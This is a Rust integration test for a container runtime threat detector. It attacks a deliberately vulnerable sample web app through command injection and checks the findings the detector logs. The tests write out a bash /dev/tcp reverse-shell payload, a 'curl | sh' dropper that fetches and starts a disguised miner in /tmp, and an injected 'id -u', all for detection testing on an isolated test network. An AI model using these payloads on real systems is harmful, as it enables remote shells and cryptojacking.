//! Real containers, as users run them: images built the way Dockerfile.example says (runwarden as the
//! ENTRYPOINT, a build-time baseline), default Docker seccomp and capabilities, attacks arriving through
//! a vulnerable endpoint, findings read from the container's log (stderr sink, Cloud Logging form).
//! The base image is built without a registry by integration/docker/build-base.sh (debootstrap +
//! docker import, cached). Needs root and a Docker engine (CI has both). Network traffic stays on a
//! Docker network this test creates.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::{Duration, Instant};

use serde_json::Value;

const BASE: &str = "runwarden-test/debian:bookworm";
const NETWORK: &str = "rwtest-net";

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap().to_path_buf()
}

fn docker(args: &[&str]) -> Output {
    Command::new("docker").args(args).output().expect("docker must be installed")
}

fn docker_ok(args: &[&str]) -> String {
    let out = docker(args);
    assert!(out.status.success(), "docker {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// Builds the base image once per test binary (the script is idempotent, but two concurrent builds
/// would both debootstrap).
fn ensure_base() {
    static BUILT: std::sync::Once = std::sync::Once::new();
    BUILT.call_once(|| {
        let out = Command::new(repo().join("integration/docker/build-base.sh")).arg(BASE).output().unwrap();
        assert!(out.status.success(), "base image: {}", String::from_utf8_lossy(&out.stderr));
    });
}

/// Builds an image from `dockerfile` with a context holding runwarden and `files`.
fn build(tag: &str, dockerfile: &Path, files: &[&Path]) {
    let ctx = tempfile::tempdir().unwrap();
    std::fs::copy(env!("CARGO_BIN_EXE_runwarden"), ctx.path().join("runwarden")).unwrap();
    std::fs::copy(dockerfile, ctx.path().join("Dockerfile")).unwrap();
    for f in files {
        std::fs::copy(f, ctx.path().join(f.file_name().unwrap())).unwrap();
    }
    docker_ok(&[
        "build",
        "-q",
        "--build-arg",
        &format!("BASE={BASE}"),
        "-t",
        tag,
        ctx.path().to_str().unwrap(),
    ]);
}

/// The test network's gateway address (this host, as the containers see it). Created once per test
/// binary: Docker allows two networks with one name if two tests create it at the same moment.
fn ensure_network() -> String {
    static GATEWAY: std::sync::OnceLock<String> = std::sync::OnceLock::new();
    GATEWAY
        .get_or_init(|| {
            if !docker(&["network", "inspect", NETWORK]).status.success() {
                docker_ok(&["network", "create", NETWORK]);
            }
            docker_ok(&["network", "inspect", NETWORK, "-f", "{{(index .IPAM.Config 0).Gateway}}"])
        })
        .clone()
}

/// A running container, removed on drop.
struct Container(String);

impl Container {
    fn run(image: &str, env: &[&str]) -> Container {
        Container::run_with(image, "", env, &[])
    }

    /// `docker run -d` with extra `docker run` options (e.g. `--user`, `--read-only`).
    fn run_with(image: &str, suffix: &str, env: &[&str], options: &[&str]) -> Container {
        let name = format!("rwtest-{}-{}{suffix}", std::process::id(), image.replace(['/', ':'], "-"));
        let _ = docker(&["rm", "-f", &name]);
        let mut args = vec!["run", "-d", "--name", &name, "--network", NETWORK];
        for e in env {
            args.extend(["-e", e]);
        }
        args.extend(options);
        args.push(image);
        docker_ok(&args);
        Container(name)
    }

    fn ip(&self) -> String {
        docker_ok(&["inspect", "-f", "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}", &self.0])
    }

    fn logs(&self) -> String {
        let out = docker(&["logs", &self.0]);
        String::from_utf8_lossy(&out.stderr).into_owned() + &String::from_utf8_lossy(&out.stdout)
    }

    fn findings(&self) -> Vec<Value> {
        self.logs()
            .lines()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .filter_map(|v| v.get("finding").cloned())
            .collect()
    }

    fn stop(&self) -> i64 {
        docker_ok(&["stop", "-t", "10", &self.0]);
        docker_ok(&["inspect", "-f", "{{.State.ExitCode}}", &self.0]).parse().unwrap()
    }
}

impl Drop for Container {
    fn drop(&mut self) {
        let _ = docker(&["rm", "-f", &self.0]);
    }
}

/// A plain HTTP/1.0 GET; the body.
fn get(host: &str, port: u16, path: &str) -> Option<String> {
    let mut s =
        TcpStream::connect_timeout(&format!("{host}:{port}").parse().ok()?, Duration::from_secs(2)).ok()?;
    s.set_read_timeout(Some(Duration::from_secs(30))).ok()?;
    write!(s, "GET {path} HTTP/1.0\r\nHost: {host}\r\n\r\n").ok()?;
    let mut resp = String::new();
    s.read_to_string(&mut resp).ok()?;
    resp.split_once("\r\n\r\n").map(|(_, b)| b.to_string())
}

fn wait_ready(host: &str, port: u16, path: &str) {
    let deadline = Instant::now() + Duration::from_secs(60);
    while Instant::now() < deadline {
        if get(host, port, path).is_some() {
            return;
        }
        std::thread::sleep(Duration::from_millis(200));
    }
    panic!("{host}:{port}{path} never answered");
}

/// Percent-encodes everything but RFC 3986's unreserved characters (for a query value).
fn url_encode(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// Sends `payload` through the sample app's vulnerable /lookup endpoint (command injection).
fn inject(ip: &str, payload: &str) {
    let _ = get(ip, 8080, &format!("/lookup?name={}", url_encode(payload)));
}

/// The first finding of `category`, or a failure showing the container's log.
fn find_category<'a>(findings: &'a [Value], category: &str, c: &Container) -> &'a Value {
    findings
        .iter()
        .find(|f| f["category"] == category)
        .unwrap_or_else(|| panic!("no {category:?} finding in:\n{}", c.logs()))
}

fn loud(findings: &[Value]) -> Vec<&Value> {
    findings
        .iter()
        .filter(|f| matches!(f["severity"].as_str(), Some("MEDIUM" | "HIGH" | "CRITICAL")))
        .collect()
}

#[test]
fn vulnerable_web_app_reverse_shell_through_command_injection() {
    ensure_base();
    let gateway = ensure_network();
    let app = repo().join("integration/docker/apps/pyweb");
    let image = "runwarden-test/pyweb:latest";
    build(image, &app.join("Dockerfile"), &[&app.join("app.py")]);
    let c = Container::run(image, &[]);
    let ip = c.ip();
    wait_ready(&ip, 8080, "/healthz");

    // Benign traffic: health checks and ordinary work (a thread and a subprocess per request).
    for _ in 0..5 {
        assert_eq!(get(&ip, 8080, "/healthz").as_deref(), Some("ok"));
        assert!(get(&ip, 8080, "/work").unwrap().contains("date"));
    }
    std::thread::sleep(Duration::from_millis(500));
    let benign = c.findings();
    assert!(loud(&benign).is_empty(), "benign traffic raised findings: {benign:#?}");

    // The attack: a reverse shell injected through /lookup, calling back to a listener on the test
    // network's gateway (this host).
    let listener = TcpListener::bind((gateway.as_str(), 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    let attacker = std::thread::spawn(move || {
        listener.set_nonblocking(false).unwrap();
        let (mut conn, _) = listener.accept().unwrap();
        conn.set_read_timeout(Some(Duration::from_secs(15))).unwrap();
        conn.write_all(b"id -u\nexit 0\n").unwrap();
        let mut got = Vec::new();
        let _ = conn.read_to_end(&mut got);
        String::from_utf8_lossy(&got).into_owned()
    });
    let payload = format!("x;bash -c 'bash -i >& /dev/tcp/{gateway}/{port} 0>&1'");
    inject(&ip, &payload);
    let session = attacker.join().unwrap();
    assert!(session.contains('0'), "the reverse shell did not run `id -u`: {session:?}");
    std::thread::sleep(Duration::from_millis(700));

    let findings = c.findings();
    let find = |category: &str| find_category(&findings, category, &c);
    let child_shell = find("Unexpected Child Shell");
    assert_eq!(child_shell["severity"], "CRITICAL");
    assert!(child_shell["ancestors"][0]["binary"]["path"].as_str().unwrap().contains("python3"));
    assert!(child_shell["processes"][0]["args"][2].as_str().unwrap().contains("/dev/tcp/"));
    let rs = find("Reverse Shell");
    assert_eq!(rs["processes"][0]["args"], serde_json::json!(["bash", "-i"]));
    let stdin = rs["processes"][0]["stdio"]["stdin"].as_str().unwrap();
    assert!(stdin.contains(&format!("->{gateway}:{port}")), "{stdin}");
    let rce = find("Execution: Possible Remote Command Execution Detected");
    assert_eq!(rce["processes"][0]["args"], serde_json::json!(["id", "-u"]));

    // docker stop: SIGTERM reaches the app through runwarden (PID 1) and its exit code (0) comes back.
    assert_eq!(c.stop(), 0, "logs:\n{}", c.logs());
    let _ = docker(&["rmi", "-f", image]);
}

#[test]
fn dockerfile_example_builds_verbatim_and_passes_signals() {
    ensure_base();
    ensure_network();
    let image = "runwarden-test/example:latest";
    build(image, &repo().join("Dockerfile.example"), &[]);
    let c = Container::run(image, &[]);
    let ip = c.ip();
    wait_ready(&ip, 8080, "/");
    // The example's CMD (python3 -m http.server) has no SIGTERM handler: it dies of the signal, and
    // runwarden reports 128+15 as a shell would.
    assert_eq!(c.stop(), 143, "logs:\n{}", c.logs());
    let logs = c.logs();
    assert!(logs.contains("\"mode\":\"ptrace\""), "not traced under Docker's default profile:\n{logs}");
    assert!(logs.contains("image baseline loaded"), "the RUN baseline step did not take:\n{logs}");
    let _ = docker(&["rmi", "-f", image]);
}

/// Cloud Run may run a container as a non-root user, and users harden with a read-only root file
/// system: runwarden must trace and report the same there.
#[test]
fn non_root_and_read_only_containers_are_traced() {
    ensure_base();
    ensure_network();
    let app = repo().join("integration/docker/apps/pyweb");
    let image = "runwarden-test/pyweb-hardened:latest";
    build(image, &app.join("Dockerfile"), &[&app.join("app.py")]);
    for (suffix, options) in
        [("-nobody", &["--user", "65534:65534"][..]), ("-ro", &["--read-only", "--tmpfs", "/tmp"][..])]
    {
        let c = Container::run_with(image, suffix, &[], options);
        let ip = c.ip();
        wait_ready(&ip, 8080, "/healthz");
        let out = get(&ip, 8080, "/lookup?name=x%3Bid%20-u").unwrap_or_default();
        std::thread::sleep(Duration::from_millis(700));
        let logs = c.logs();
        assert!(logs.contains("\"mode\":\"ptrace\""), "{suffix}: not traced:\n{logs}");
        let findings = c.findings();
        let shell = findings
            .iter()
            .find(|f| f["category"] == "Unexpected Child Shell")
            .unwrap_or_else(|| panic!("{suffix}: no finding (response {out:?}):\n{logs}"));
        if suffix == "-nobody" {
            assert!(out.contains("65534"), "the injected command ran as nobody: {out:?}");
            assert_eq!(shell["processes"][0]["pid"].as_i64().map(|p| p > 1), Some(true));
        }
        assert_eq!(c.stop(), 0, "{suffix}: logs:\n{logs}");
    }
    let _ = docker(&["rmi", "-f", image]);
}

/// Serves fixed files over HTTP/1.0 on `addr` until `count` requests were answered.
fn serve_files(
    listener: TcpListener,
    files: Vec<(&'static str, Vec<u8>)>,
    count: usize,
) -> std::thread::JoinHandle<Vec<String>> {
    std::thread::spawn(move || {
        let mut paths = Vec::new();
        for _ in 0..count {
            let Ok((mut conn, _)) = listener.accept() else { break };
            conn.set_read_timeout(Some(Duration::from_secs(10))).ok();
            let mut buf = [0u8; 2048];
            let n = conn.read(&mut buf).unwrap_or(0);
            let req = String::from_utf8_lossy(&buf[..n]).to_string();
            let path = req.split_whitespace().nth(1).unwrap_or("").to_string();
            let body = files.iter().find(|(p, _)| *p == path).map(|(_, b)| b.clone());
            let (status, body) = match body {
                Some(b) => ("200 OK", b),
                None => ("404 Not Found", b"no".to_vec()),
            };
            let _ = write!(conn, "HTTP/1.0 {status}\r\nContent-Length: {}\r\n\r\n", body.len());
            let _ = conn.write_all(&body);
            paths.push(path);
        }
        paths
    })
}

/// A dropper arriving the way cryptojacking does: command injection runs `curl | sh`, the fetched
/// script downloads a miner into /tmp, makes it executable and starts it against a Stratum pool.
#[test]
fn dropped_miner_through_command_injection() {
    ensure_base();
    let gateway = ensure_network();
    let app = repo().join("integration/docker/apps/pyweb");
    let image = "runwarden-test/pyweb-dropper:latest";
    build(image, &app.join("Dockerfile"), &[&app.join("app.py")]);
    let c = Container::run_with(image, "", &[], &[]);
    let ip = c.ip();
    wait_ready(&ip, 8080, "/healthz");

    let listener = TcpListener::bind((gateway.as_str(), 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    let base = format!("http://{gateway}:{port}");
    // A real ELF that still runs, carrying a miner's configuration strings (as packed miners do).
    let mut miner = std::fs::read("/bin/true").unwrap();
    miner.extend_from_slice(b"xmrig 6.21 --donate-level 1 randomx");
    let dropper = format!(
        "#!/bin/sh\ncurl -s {base}/kworker -o /tmp/.kworker\nchmod +x /tmp/.kworker\n\
         /tmp/.kworker --donate-level 1 -o stratum+tcp://pool.example:3333 -u 4Awallet\n"
    )
    .into_bytes();
    let server = serve_files(listener, vec![("/d.sh", dropper), ("/kworker", miner)], 2);
    let payload = format!("x;curl -s {base}/d.sh | sh");
    inject(&ip, &payload);
    let served = server.join().unwrap();
    assert_eq!(served, vec!["/d.sh", "/kworker"], "the dropper did not fetch both stages");
    std::thread::sleep(Duration::from_millis(700));

    let findings = c.findings();
    let find = |category: &str| find_category(&findings, category, &c);
    let miner_f = find("Execution: Added Malicious Binary Executed");
    assert_eq!(miner_f["processes"][0]["binary"]["path"], "/tmp/.kworker");
    assert_eq!(miner_f["indicator"]["signatures"][0]["yaraRuleSignature"]["yaraRule"], "miner_xmrig_family");
    assert_eq!(miner_f["processes"][0]["binary"]["sha256"].as_str().map(str::len), Some(64));
    let stratum = find("Impact: Suspicious crypto mining activity using the Stratum Protocol");
    assert!(stratum["processes"][0]["args"].to_string().contains("stratum+tcp://pool.example:3333"));
    find("Execution: Program Run from Temporary Directory");
    find("Unexpected Child Shell");
    let _ = c.stop();
    let _ = docker(&["rmi", "-f", image]);
}
